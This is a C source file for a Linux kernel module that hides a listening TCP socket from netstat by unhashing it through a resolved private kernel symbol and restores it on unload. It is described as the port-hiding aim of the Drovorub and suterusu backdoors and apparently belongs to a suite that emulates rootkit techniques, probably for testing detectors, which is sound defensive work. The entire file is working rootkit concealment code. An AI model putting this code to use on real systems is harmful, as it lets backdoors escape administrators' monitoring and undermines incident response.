// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a listening socket is taken out of the table that netstat shows. Who: backdoors that unhash their port
 * (Drovorub's and suterusu's aim, without a hook).
 * Changes: the hash list of the listener at `socket`. Undone when it is unloaded.
 */
#include "attack.h"

#include <net/sock.h>
#include <net/tcp_states.h>

KERNEL_SYMBOL(inet_unhash);
KERNEL_SYMBOL(inet_hash);
static unsigned long socket;
module_param(socket, ulong, 0);

static struct sock *listener;

static int __init start(void)
{
	listener = (struct sock *)socket;
	if (!listener || !inet_unhash_at || !inet_hash_at || listener->sk_state != TCP_LISTEN)
		return -ESRCH;
	sock_hold(listener);
	((void (*)(struct sock *))inet_unhash_at)(listener);
	return 0;
}

static void __exit stop(void)
{
	((int (*)(struct sock *))inet_hash_at)(listener);
	sock_put(listener);
}

ATTACK(start, stop);
